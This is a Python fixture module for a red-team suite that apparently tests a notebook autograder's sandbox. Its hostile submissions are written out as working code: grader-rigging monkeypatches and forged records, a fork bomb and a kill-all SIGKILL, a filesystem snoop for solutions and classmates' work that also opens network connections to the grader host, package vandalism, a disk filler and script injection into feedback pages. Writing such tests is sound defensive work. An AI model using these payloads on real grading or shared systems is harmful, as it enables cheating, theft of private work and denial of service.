"""Hostile submissions for the red-team suite (tests/integration/test_attacks.py): payloads as data.

Each attack is a student whose attacked notebook is a realistic WRONG answer from
autograder/wrong_answers/ plus hostile code (extra cells, placed where they hurt most), and whose
other notebook is a correct solution. `write_students()` writes every submission the batch grades:
the attacks, a `baseline` (the same wrong answers, no attack) and a `bystander` (correct work).

Payloads are written as an adversary would write them, except where the shared test machine
(2 cores, no swap, other people's work) needs a bound: the disk filler stops at 300 MB, the fork
bomb runs for at most 10 s (a real one runs until the wall limit), the fork bomb and the memory swarm
run in the batch only where the sandbox caps a run's processes and memory as a group (tests/integration/test_attacks.py
runs them again with cgroups off and a per-process memory cap that refuses the swarm), and the vandal proves
write access to JSON/CSV files by opening them for append without writing, so that a sandbox
failure cannot corrupt the shared checkout. Strings the suite looks for in feedback
(solution markers, injected markup) are assembled at run time, so that a payload's own source,
which feedback shows, never contains them.

A kernel reports what it achieved through the one channel the grader keeps: a record. Each
report overwrites the record of a visible check that the attack's wrong answer fails anyway
(so the score is unchanged) with an error whose text the suite reads from the verdict's detail.
"""

import json
import os
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from conftest import solved_notebook
from vlmkit.grading.authoring.answer_banks import set_answers, wrong_answers
from vlmkit.grading.nbgrader_io.cells import nbgrader_meta

Q5, Q6 = "q5_coordinate_tokens.ipynb", "q6_vla_actions.ipynb"
NOTEBOOK = {"q5": Q5, "q6": Q6}
OTHER = {"q5": "q6", "q6": "q5"}


def _wrong(question, name):
    for wrong_name, grade_id, code, _ in wrong_answers(question):
        if wrong_name == name:
            return grade_id, code
    raise KeyError(name)


# The wrong answers every attack starts from (the baseline student submits exactly these), and a
# visible check each of them fails, which carries the kernel's reports.
WRONG = {"q5": _wrong("q5", "no clamping"), "q6": _wrong("q6", "no clipping to [-1, 1]")}
REPORT_CHECK = {"q5": "q5.quantize.clamp", "q6": "q6.normalize.example"}

BYSTANDER_SECRET = "bystander-private-note-3f9c1a"
VANDAL_MARK = "# VANDAL" + "-WAS-HERE"

# ------------------------------------------------------------------ shared payload pieces


def report(question):
    return r'''
def _report(text):
    import json as _j, os as _o
    with open(_o.environ["VLMKIT_RECORD"], "a") as fh:
        fh.write(_j.dumps({"check": "CHECK", "ok": False, "error": "Report: " + text}) + "\n")
'''.replace("CHECK", REPORT_CHECK[question])


# What an adversary can put in a record without knowing the answer: expected values read from
# the shipped visible judges' closures, and outputs that the shipped judges of roundtrip /
# inverse / raises probes accept by construction. Hidden `call` checks have no such oracle.
ORACLE = r'''
import json as _json, os as _os

def _oracle_output(check_id, honest=None):
    from vlmkit.grading.checking import registry as _R
    visible = _R.visible_checks(check_id.split(".")[0]).get(check_id)
    if visible is not None:
        case, probe, judge = visible.case, visible.probe, visible.judge
        cells = dict(zip(judge.__code__.co_freevars, [c.cell_contents for c in (judge.__closure__ or ())]))
        if "expected" in cells:
            return cells["expected"]
    else:
        try:
            spec = _json.load(open(_os.environ["VLMKIT_CASES"])).get(check_id)
        except Exception:
            spec = None
        if spec is None:
            return honest
        case, probe = spec["case"], spec["probe"]
    if check_id == "q5.vocab.florence":
        return ["<loc_%d>" % i for i in range(1000)]
    if check_id == "q6.vocab.example":
        return list(range(32000 - 256, 32000))
    if probe == "roundtrip" and "values" in case:
        n = case["num_bins"]
        return [(min(max(int(v * n), 0), n - 1) + 0.5) / n for v in case["values"]]
    if probe == "roundtrip" and "actions" in case:
        import numpy as _np
        clipped = _np.clip(_np.asarray(case["actions"], dtype=float), -1, 1)
        return {"ids": _np.full(clipped.shape, case["vocab_size"] - 1).tolist(), "decoded": clipped.tolist()}
    if probe == "tokens_roundtrip":
        w, h = case["width"], case["height"]
        return [[min(max(v, 0), lim) for v, lim in zip(b, (w, h, w, h))] for b in case["boxes"]]
    if probe == "inverse":
        return case["actions"]
    if probe == "raises":
        return "ValueError"
    return honest

def _forge(record):
    if not isinstance(record, dict) or not isinstance(record.get("check"), str):
        return record
    return {"check": record["check"], "ok": True,
            "output": _oracle_output(record["check"], record.get("output"))}
'''

KILL_RUNNER = r'''
import os as _os, signal as _signal
_os.kill(_os.getppid(), _signal.SIGKILL)   # the runner dies before it can write executed.ipynb
'''

# ------------------------------------------------------------------ the attacks

RIGGED = r'''
import sys, functools
import numpy as np

class AlwaysEqual:
    """Equal to everything, and claims to be a list."""
    __class__ = property(lambda self: list)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __len__(self): return 4
    def __iter__(self): return iter([AlwaysEqual() for _ in range(4)])
    def __getitem__(self, i): return AlwaysEqual()
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __lt__(self, other): return False
    __le__ = __ge__ = lambda self, other: True
    __gt__ = __lt__
    def __array__(self, dtype=None, copy=None): return np.zeros(4)

RigList = type("list", (list,), {"__module__": "builtins", "__qualname__": "list",
                                 "__eq__": lambda s, o: True, "__ne__": lambda s, o: False})
RigStr = type("str", (str,), {"__module__": "builtins", "__eq__": lambda s, o: True,
                              "__ne__": lambda s, o: False, "__hash__": str.__hash__})

class RigArray(np.ndarray):
    __module__ = "numpy"
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other): return np.zeros(np.shape(other), dtype=bool)
RigArray.__name__ = RigArray.__qualname__ = "ndarray"

class RigFloat(np.float64):
    __module__ = "numpy"
    def __eq__(self, other): return True
    def item(self): return AlwaysEqual()

class RigDict(dict):
    def __eq__(self, other): return True
    def get(self, key, default=None): return AlwaysEqual()

RIGS = {
    "normalize_box": lambda v: AlwaysEqual(),
    "quantize": lambda v: RigList(v),
    "dequantize": lambda v: np.asarray(v, dtype=float).view(RigArray),
    "box_to_tokens": lambda v: RigStr(v),
    "tokens_to_box": lambda v: [RigFloat(x) for x in v],
    "parse_detections": lambda v: [RigDict(d) for d in v],
    "location_vocabulary": lambda v: RigList(v),
}

def _from_grader():
    return sys._getframe(2).f_globals.get("__name__", "").startswith("vlmkit.checks")

def _rig(fn, rig):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        value = fn(*args, **kwargs)
        return rig(value) if _from_grader() else value
    wrapper.__rigged__ = True
    return wrapper

def _rig_all(*_):
    ns = get_ipython().user_ns
    for name, rig in RIGS.items():
        fn = ns.get(name)
        if callable(fn) and not getattr(fn, "__rigged__", False):
            ns[name] = _rig(fn, rig)

get_ipython().events.register("post_run_cell", _rig_all)
'''

PATCH_LIBS_AND_KIT = ORACLE + r'''
import builtins, math, json
import numpy as np
import torch

# libraries an nbgrader-style test would compare with
np.allclose = lambda *a, **k: True
np.array_equal = np.array_equiv = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = lambda *a, **k: None
math.isclose = lambda *a, **k: True
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)

# json: every record the kit writes says ok, with the oracle's output
_dumps = json.dumps
def _forging_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and isinstance(obj.get("check"), str) and "ok" in obj:
        obj = _forge(obj)
    return _dumps(obj, *args, **kwargs)
json.dumps = _forging_dumps

# builtins: any line appended to the record file is forged on its way out
_open = builtins.open
class _ForgingFile:
    def __init__(self, fh): self._fh = fh
    def write(self, text):
        lines = []
        for line in text.splitlines():
            try:
                lines.append(_dumps(_forge(json.loads(line))))
            except Exception:
                lines.append(line)
        return self._fh.write("\n".join(lines) + "\n")
    def __enter__(self): return self
    def __exit__(self, *exc): self._fh.close()
    def __getattr__(self, name): return getattr(self._fh, name)
def _forging_open(file, mode="r", *args, **kwargs):
    fh = _open(file, mode, *args, **kwargs)
    if str(file) == _os.environ.get("VLMKIT_RECORD") and ("a" in mode or "w" in mode):
        return _ForgingFile(fh)
    return fh
builtins.open = _forging_open

# the kit itself, inside the kernel
import vlmkit.grading.checking.learner_api as C, vlmkit.grading.checking.verdict as V
import vlmkit.grading.checking.compare as CMP
import vlmkit.grading.checking.plain as P, vlmkit.grading.checking.judges as J
CMP.close = CMP.equal = lambda *a, **k: None
J.match_reference = lambda *a, **k: (lambda case, output: None)
V.judge_record = C.judge_record = lambda check, record: V.Verdict(check.id, True, "passed")
C.MAX_RECORD_BYTES = 1 << 40
_append = C._append_record
C._append_record = lambda path, record: _append(path, _forge(record))
_to_plain = P.to_plain
def _lenient_to_plain(value, _depth=0):
    try:
        return _to_plain(value, _depth)
    except P.NotPlain:
        return None
P.to_plain = C.to_plain = _lenient_to_plain
'''

PATCH_IPYTHON = ORACLE + r'''
import re, sys
import vlmkit.grading.checking.learner_api as C

# silence every traceback, and rewrite each test cell so that its records are forged
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
sys.excepthook = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)

def _forge_cell_(source):
    real = C._append_record
    C._append_record = lambda path, record: real(path, _forge(record))
    try:
        exec(source, ip.user_ns)
    except BaseException:
        pass
    finally:
        C._append_record = real

def _rewrite_tests(lines):
    source = "".join(lines)
    if re.search(r"""check\(\s*["']q\d""", source) and "_forge_cell_" not in source:
        return ["_forge_cell_(%r)\n" % source]
    return lines

ip.input_transformers_cleanup.append(_rewrite_tests)
ip.input_transformers_post.append(_rewrite_tests)
'''

FORGE_RECORDS = ORACLE + r'''
import os, json
record = os.environ["VLMKIT_RECORD"]
honest = [json.loads(line) for line in open(record) if line.strip()]
with open(record, "w") as fh:
    # junk the grader must survive, then forged records (the last well-formed one wins)
    fh.write("not json\n{\"check\": 5}\n[1, 2]\n")
    fh.write(json.dumps({"check": "q5.hidden.quantize", "ok": True,
                         "output": {"__array__": [0] * 8, "shape": [-1], "kind": "i"}}) + "\n")
    for rec in honest:
        fh.write(json.dumps(_forge(rec)) + "\n")
    for check_id in json.load(open(os.environ["VLMKIT_CASES"])):
        if check_id not in {rec.get("check") for rec in honest}:
            fh.write(json.dumps(_forge({"check": check_id})) + "\n")

# and the executed notebook: a link to the instructor's solutions, which the runner cannot replace
home = os.environ.get("VLMKIT_HOME", "/work/main")
box = os.path.dirname(record)
os.symlink(home + "/solutions/checkpoint/q5_coordinate_tokens.ipynb", os.path.join(box, "executed.ipynb"))
''' + KILL_RUNNER

POISONED_EXECUTED = r'''
import os, json
box = os.path.dirname(os.environ["VLMKIT_RECORD"])
nb = json.load(open(os.path.join(box, "notebook.ipynb")))
error = {"output_type": "error", "ename": "E", "evalue": "", "traceback": []}
nb["cells"] += [
    {"cell_type": "code", "id": "p1", "execution_count": None, "source": "", "outputs": [error],
     "metadata": {"nbgrader": {"grade_id": ["q5_test_tokens"]}}},
    {"cell_type": "code", "id": "p2", "execution_count": None, "source": "", "outputs": [error],
     "metadata": {"nbgrader": "q5_test_tokens"}},
]
json.dump(nb, open(os.path.join(box, "executed.ipynb"), "w"))
''' + KILL_RUNNER

KILL_ALL = r'''
import os, signal
# guard for the shared test machine: only signal "everyone" inside bubblewrap's pid namespace
if open("/proc/1/comm").read().strip() == "bwrap":
    os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
'''

HANG = r'''
import signal, time
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
    signal.signal(sig, signal.SIG_IGN)
while True:
    try:
        try:
            time.sleep(1000)
        finally:
            time.sleep(1000)
    except BaseException:
        pass
'''

FLOOD_CELLS = [
    # print loop
    "for i in range(50_000):\n    print('flood', i, 'x' * 50)\n",
    # one giant message (passes a cap that is checked before appending)
    "print('Y' * 8_000_000)\n",
    # giant rich output, and a giant error message
    "from IPython.display import display\n"
    "display({'text/plain': 'Z' * 3_000_000, 'image/png': 'A' * 3_000_000}, raw=True)\n",
    "raise RuntimeError('E' * 5_000_000)\n",
    # giant return values, through checks this wrong answer fails anyway
    "import numpy as np\n"
    "check('q6.normalize.example', lambda *a, **k: 'S' * 100_000_000)\n"
    "nested = []\nfor _ in range(10_000):\n    nested = [nested]\n"
    "check('q6.hidden.normalize', lambda *a, **k: nested)\n"
    "check('q6.hidden.normalize', lambda *a, **k: np.zeros(50_000_000))\n",
    # memory: one-shot allocations beyond the per-process limit
    "import numpy as np\nhog = []\n"
    "for make in (lambda: bytearray(64 << 30), lambda: np.ones(1 << 33)):\n"
    "    try:\n        hog.append(make())\n    except MemoryError as err:\n        print('refused:', err)\n",
    # stderr flood into the runner's real stderr (ipykernel keeps a dup of fd 2)
    "import os, sys\nfd = getattr(sys.stderr, '_original_stdstream_copy', None) or 2\n"
    "chunk = b'E' * (1 << 20)\nfor _ in range(600):\n    os.write(fd, chunk)\n",
] + ["print('cell %d', 'w' * 6000)\n" % i for i in range(20)]


def snoop(port, host_ip, subs_root):
    return report("q5") + r'''
import os, glob, socket
WANT = ("solution", "hidden", "grades", "report.json", "results", "feedback", "submitted",
        "autograder", "bystander", ".ipynb", "records", "cases", "gradebook")
SKIP = {"/proc", "/sys", "/dev", "/usr", "/root/.pyenv"}
found, seen = [], [0]
def scan(top):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIP and d != "site-packages"]
        for name in dirs + files:
            seen[0] += 1
            path = os.path.join(root, name)
            if any(w in name.lower() for w in WANT) and not os.path.realpath(path).startswith("/sandbox"):
                found.append(path)
        if seen[0] > 20000:
            return

here = os.getcwd()   # walk up from cwd, then the usual places
while True:
    scan(here)
    if here == "/":
        break
    here = os.path.dirname(here)
for top in ("/work", "/tmp", "/root", "/home", "/srv", "/var", "/mnt", "/opt"):
    scan(top)
home = os.environ.get("VLMKIT_HOME", "/work/main")
guesses = [home + "/solutions/checkpoint/q5_coordinate_tokens.ipynb", home + "/autograder/hidden/q5.py",
           home + "/autograder/hidden/q6.py", home + "/grades/grades.csv", home + "/tests/attacks.py",
           "SUBS/bystander/checkpoint/q5_coordinate_tokens.ipynb", "SUBS/bystander/checkpoint/q6_vla_actions.ipynb"]
guesses += glob.glob("/proc/*/root" + home + "/solutions/*/*.ipynb") + glob.glob("/proc/*/cwd/*")
loot = []
for path in found + guesses:
    try:
        if os.path.realpath(path).startswith("/sandbox"):
            continue   # my own box: not loot
        if os.path.isdir(path):
            os.listdir(path)
        else:
            with open(path, "rb") as fh:
                fh.read(100)
        loot.append(path)
    except OSError:
        pass

reached = []   # network: the grader's host, over loopback and its address
for host in ("127.0.0.1", "localhost", "HOST_IP", "::1", "0.0.0.0"):
    try:
        with socket.create_connection((host, PORT), timeout=2) as conn:
            conn.sendall(b"student was here")
            reached.append(host)
    except OSError:
        pass
for host in ("127.0.0.1", "HOST_IP"):   # UDP: only the listener can tell whether it arrived
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"student was here", (host, PORT))
    except OSError:
        pass
_report("LOOT %r NET-REACHED %r" % (loot, reached))
'''.replace("PORT", str(port)).replace("HOST_IP", host_ip).replace("SUBS", str(subs_root))


def vandal(subs_root):
    return report("q6") + r'''
import os, glob, site
import numpy, vlmkit
MARK = "# VANDAL" + "-WAS-HERE\n"
box = os.path.dirname(os.environ["VLMKIT_RECORD"])
home = os.environ.get("VLMKIT_HOME", "/work/main")
code_targets, data_targets = [], []
for package in (os.path.dirname(vlmkit.__file__), os.path.dirname(numpy.__file__)):
    for root, dirs, files in os.walk(package):
        code_targets += [os.path.join(root, f) for f in files if f.endswith(".py")]
for d in site.getsitepackages():
    code_targets += [os.path.join(d, "zz_vandal.pth"), os.path.join(d, "sitecustomize.py")]
code_targets += [home + "/autograder/hidden/q5.py", home + "/autograder/hidden/q6.py",
                 home + "/src/vlmkit/grading/checking/verdict.py"]
data_targets += [home + "/autograder/manifest.json", home + "/solutions/checkpoint/q6_vla_actions.ipynb",
                 home + "/notebooks/checkpoint/q6_vla_actions.ipynb"]
data_targets += glob.glob("SUBS/*/checkpoint/*.ipynb")
here = os.getcwd()
for _ in range(10):
    for pattern in ("grades.csv", "report.json", "gradebook.db", "*/grades.csv", "results/*/*.json",
                    "*/results/*/*.json", "*/checkpoint/*.ipynb", "*/*/checkpoint/*.ipynb", "feedback/*/*/*.html"):
        data_targets += [p for p in glob.glob(os.path.join(here, pattern)) if not p.startswith(box)]
    here = os.path.dirname(here)
wrote = []
for path in code_targets:   # a comment line: harmless if it lands, proof that it did
    try:
        with open(path, "a") as fh:
            fh.write(MARK)
        wrote.append(path)
    except OSError:
        pass
for path in data_targets:   # JSON/CSV: prove write access without damaging the file
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        wrote.append(path)
    except OSError:
        pass
for folder in {os.path.dirname(p) for p in data_targets}:   # replacing a file needs only its folder
    try:
        probe = os.path.join(folder, ".vandal-probe")
        open(probe, "w").close()
        os.unlink(probe)
        wrote.append("folder:" + folder)
    except OSError:
        pass
wrote = [p for p in wrote if box not in p]

disk = 0   # the host's disk behind /sandbox (or wherever is writable): many files under the per-file limit
for box in (box, os.getcwd(), os.path.expanduser("~"), "/tmp"):
    try:
        os.makedirs(os.path.join(box, "fill"), exist_ok=True)
        break
    except OSError:
        continue
block = b"\0" * (1 << 20)
for i in range(5):
    try:
        with open(os.path.join(box, "fill", "%d.bin" % i), "wb") as fh:
            for _ in range(60):
                fh.write(block)
                disk += len(block)
    except OSError:
        break
for i in range(2000):
    try:
        open(os.path.join(box, "fill", "inode%d" % i), "w").close()
    except OSError:
        break
_report("VANDAL-WROTE %d %r VANDAL-DISK-BYTES %d VANDAL-BOX %s" % (len(wrote), sorted(set(wrote))[:30], disk, box))
'''.replace("SUBS", str(subs_root))


# Hidden inputs out through the verdicts: a function called by the grader's probe on a case that
# is not one of the (public) visible cases raises an exception whose *type name* spells the case.
LEAK_AND_INJECT = r'''
import functools, json, re, sys

def _visible_cases():
    from vlmkit.grading.checking import registry
    return [c.case for q in ("q5", "q6") for c in registry.visible_checks(q).values()]

def _spell(case):
    words = [w for w in re.findall(r"[A-Za-z]+(?: [A-Za-z]+)*|-?[0-9][0-9.e+-]*", json.dumps(case))
             if w not in ("args", "kwargs")]
    return "_".join(w.lstrip("-") for w in words)

def _leaky(fn):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        case = sys._getframe(1).f_locals.get("case")
        if isinstance(case, dict) and case not in _visible_cases():
            raise type(_spell(case), (ValueError,), {})("leak")
        return fn(*args, **kwargs)
    wrapper.__leaky__ = True
    return wrapper

def _wrap_all(*_):
    ns = get_ipython().user_ns
    for name in ("normalize_actions", "unnormalize_actions", "actions_to_token_ids", "token_ids_to_actions",
                 "decode_action_stream", "overwritten_token_ids", "tokens_per_episode"):
        fn = ns.get(name)
        if callable(fn) and not getattr(fn, "__leaky__", False):
            ns[name] = _leaky(fn)

get_ipython().events.register("post_run_cell", _wrap_all)
'''

LEAK_AND_INJECT_END = [
    # the case file itself, printed and raised (feedback used to show outputs and errors)
    "import os\nprint(open(os.environ['VLMKIT_CASES']).read()[:4900])\n",
    "raise ValueError(open(os.environ['VLMKIT_CASES']).read())\n",
    # markup smuggled into the feedback page through an image's data
    "from IPython.display import display\n"
    "evil = (\"x'/>\" + '<scr' + \"ipt>document.title='owned'</scr\" + 'ipt>'\n"
    "        + \"<h1 id='fake\" + \"-score'>q6_vla_actions.ipynb: 1/1</h1><img src='\")\n"
    "display({'image/png': evil, 'text/plain': 'chart'}, raw=True)\n",
]

FIFO = r'''
import os
record = os.environ["VLMKIT_RECORD"]
os.unlink(record)
os.mkfifo(record)   # the grader's open() of its record file now waits for a writer forever
'''

# RLIMIT_AS is per process and RLIMIT_NPROC counts a uid's tasks: a swarm of children, each under
# the per-process cap, then a fork bomb, then SIGKILL to every process in sight. The swarm's
# children ignore the cell timeout's SIGINT; later cells collect them.
SWARM = r'''
import os, signal, time
kids = []
for _ in range(4):   # 4 x 1.6 GB touched > the run's 6 GB group limit
    pid = os.fork()
    if pid == 0:
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        code = 1   # exit status 1: the allocation was refused (RLIMIT_AS)
        try:
            hog = b"x" * (1600 << 20)
            code = 0
            time.sleep(2)
        finally:
            os._exit(code)
    kids.append(pid)
statuses = {}
'''

SWARM_WAIT = r'''
import os, time
deadline = time.time() + 13
while len(statuses) < len(kids) and time.time() < deadline:
    for pid in kids:
        if pid not in statuses:
            done, status = os.waitpid(pid, os.WNOHANG)
            if done:
                statuses[pid] = status
    time.sleep(0.2)
'''

FORK_BOMB = r'''
import os, subprocess, time
swarm_killed = sum(os.WIFSIGNALED(s) for s in statuses.values())
swarm_refused = sum(os.WIFEXITED(s) and os.WEXITSTATUS(s) == 1 for s in statuses.values())
# The bomb's shells say "Cannot fork" when a limit refuses them: proof that a cap bound it, on a
# fast machine (the count reaches the cap) and a slow one (the bomb grows slower than the clock).
subprocess.Popen(["/bin/sh", "-c", "f() { f | f & }; f"], start_new_session=True,
                 stderr=open("/tmp/bomb.err", "wb"))
peak, refused_at, start = 0, None, time.time()
while time.time() < start + 10 and (refused_at is None or time.time() < refused_at + 1):
    count = sum(p.isdigit() for p in os.listdir("/proc"))
    peak = max(peak, count)
    if count > 2000:   # safety valve for the shared machine: the group cap is not working
        break
    if refused_at is None and b"fork" in open("/tmp/bomb.err", "rb").read(1 << 16):
        refused_at = time.time()
    time.sleep(0.05)
_report("SWARM-KILLED %d of %d; SWARM-REFUSED %d; PEAK-PROCESSES %d; FORK-REFUSED %d" % (
    swarm_killed, len(statuses), swarm_refused, peak, refused_at is not None))
''' + KILL_ALL

# The swarm, the fork bomb and the kill-everything attack, cell by cell (reports through q5's record).
PROCESS_ATTACK = [report("q5"), SWARM, SWARM_WAIT, SWARM_WAIT, FORK_BOMB]

MALFORMED_CELL = {"cell_type": "code", "execution_count": None, "outputs": [], "source": "x = 1\n",
                  "metadata": {"nbgrader": {"grade_id": ["q5_test_tokens"], "grade": True, "points": 9}}}

# ------------------------------------------------------------------ building submissions


@dataclass
class Attack:
    question: str  # the attacked question (q5 or q6); the other one is a correct solution
    summary: str
    extra: list = field(default_factory=list)  # [(anchor grade_id or "END", source)]
    kind: str = "notebook"  # notebook | symlink | tampered | malformed
    giant_comment_bytes: int = 0  # a final cell holding a comment this long (built when written)


def _insert_after(nb, anchor, source):
    """After the anchor cell and the attack cells already put there (END: after everything)."""
    cell = nbformat.v4.new_code_cell(source, metadata={"tags": ["attack"]})
    if anchor == "END":
        nb.cells.append(cell)
        return
    index = next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("grade_id") == anchor) + 1
    while index < len(nb.cells) and "attack" in nb.cells[index].metadata.get("tags", []):
        index += 1
    nb.cells.insert(index, cell)


def wrong_notebook(question, extra=()):
    grade_id, code = WRONG[question]
    nb = set_answers(solved_notebook(NOTEBOOK[question]), {grade_id: code})
    for anchor, source in extra:
        _insert_after(nb, anchor, source)
    return nb


def _tampered():
    nb = wrong_notebook("q5")
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    cells = []
    for cell in nb.cells:
        meta = nbgrader_meta(cell)
        gid = meta.get("grade_id")
        if gid == "q5_test_normalize_quantize":  # edited test cell, and its points inflated
            cell.source = "pass\n"
            meta["points"] = 100
        if gid == "q5_test_tokens":  # deleted test cell
            continue
        cells.append(cell)
        if gid in ("q5_test_dequantize", "q5_normalize_quantize"):  # duplicated cells, claiming points
            twin = nbformat.from_dict(cell)
            twin.source = "pass\n"
            twin.metadata["nbgrader"] = dict(meta, grade=True, points=50, solution=False)
            cells.append(twin)
    cells.append(nbformat.v4.new_code_cell("pass\n", metadata={"nbgrader": {
        "grade": True, "grade_id": "q5_bonus", "points": 10, "solution": False, "locked": True,
        "schema_version": 3}}))
    nb.cells = cells
    return nb


def attacks(port, host_ip, subs_root, process_limits=True):
    """name → Attack. Names sort so that the long hang starts first."""
    table = {
        "a_hang_sleep_in_finally": Attack("q5", "ignores SIGINT/SIGTERM, sleeps in a finally, forever",
                                          [("q5_test_dequantize", HANG)]),
        "fifo_record_file": Attack("q6", "replaces its record file with a FIFO", [("END", FIFO)]),
        "forge_records_and_executed": Attack("q5", "rewrites its records with oracle outputs; executed.ipynb "
                                                   "-> $VLMKIT_HOME/solutions; kills the runner",
                                             [("END", FORGE_RECORDS)]),
        "giant_notebook": Attack("q5", "a 64 MB notebook (one comment cell)", giant_comment_bytes=64 << 20),
        "leak_hidden_and_inject_html": Attack("q6", "hidden inputs spelled in exception type names; "
                                                    "case file printed/raised; markup via image/png",
                                              [("q6_setup", LEAK_AND_INJECT)]
                                              + [("END", c) for c in LEAK_AND_INJECT_END]),
        "malformed_notebook": Attack("q5", "valid, nbformat-readable JSON; a cell's grade_id is a list",
                                     kind="malformed"),
        "patch_ipython": Attack("q6", "input transformers rewrite every test cell to forge its records; "
                                      "showtraceback, excepthook and custom_exc silenced",
                                [("q6_setup", PATCH_IPYTHON)]),
        "patch_libs_and_kit": Attack("q5", "patches numpy/torch/math/json/builtins and vlmkit.grading in the kernel",
                                     [("q5_setup", PATCH_LIBS_AND_KIT)]),
        "poisoned_executed": Attack("q5", "writes a malformed executed.ipynb, kills the runner",
                                    [("END", POISONED_EXECUTED)]),
        "rigged_values": Attack("q5", "__eq__-always-true, lying __class__, list/ndarray/float subclasses",
                                [("q5_setup", RIGGED)]),
        "snoop_and_network": Attack("q5", "walks up, scans / /tmp /proc /work; TCP/UDP to the host",
                                    [("END", snoop(port, host_ip, subs_root))]),
        "symlink_submission_to_classmate": Attack("q5", "submits a symlink to the bystander's notebook",
                                                  kind="symlink"),
        "tampered_cells": Attack("q5", "edits/deletes/duplicates test cells, fake graded cells, kernelspec",
                                 kind="tampered"),
        "vandal_flood_and_disk": Attack("q6", "print floods, giant outputs/returns/allocations, stderr flood; "
                                              "writes into packages/gradebook/others; 300 MB to disk",
                                        [("END", c) for c in FLOOD_CELLS] + [("END", vandal(subs_root))]),
    }
    processes = PROCESS_ATTACK if process_limits else [KILL_ALL]
    table["processes_swarm_bomb_kill"] = Attack(
        "q5", ("4 x 1.6 GB children, a fork bomb (≤ 10 s), then " if process_limits else "") + "SIGKILL to all",
        [("q5_test_normalize_quantize", c) for c in processes])
    return table


def _bystander_notebook(question):
    nb = solved_notebook(NOTEBOOK[question])
    answer = next(c for c in nb.cells if nbgrader_meta(c).get("solution"))
    answer.source += f"\n# {BYSTANDER_SECRET}\n"
    return nb


def write_students(subs_root: Path, table: dict) -> None:
    """Write the bystander, the baseline and every attack in `table` under subs_root."""
    def folder(student):
        path = subs_root / student / "checkpoint"
        path.mkdir(parents=True, exist_ok=True)
        return path

    for question in ("q5", "q6"):
        nbformat.write(_bystander_notebook(question), str(folder("bystander") / NOTEBOOK[question]))
        nbformat.write(wrong_notebook(question), str(folder("baseline") / NOTEBOOK[question]))
    for name, attack in table.items():
        here, other = folder(name), OTHER[attack.question]
        nbformat.write(solved_notebook(NOTEBOOK[other]), str(here / NOTEBOOK[other]))
        target = here / NOTEBOOK[attack.question]
        if attack.kind == "symlink":
            nbformat.write(wrong_notebook(attack.question), str(here / "q5_my_draft.ipynb"))
            os.symlink(f"../../bystander/checkpoint/{NOTEBOOK[attack.question]}", target)
        elif attack.kind == "tampered":
            nbformat.write(_tampered(), str(target))
        elif attack.kind == "malformed":
            data = json.loads(nbformat.writes(wrong_notebook(attack.question)))
            data["cells"].insert(2, MALFORMED_CELL)
            target.write_text(json.dumps(data))
        else:
            extra = attack.extra
            if attack.giant_comment_bytes:
                extra = extra + [("END", "# " + "x" * attack.giant_comment_bytes + "\n")]
            nbformat.write(wrong_notebook(attack.question, extra), str(target))
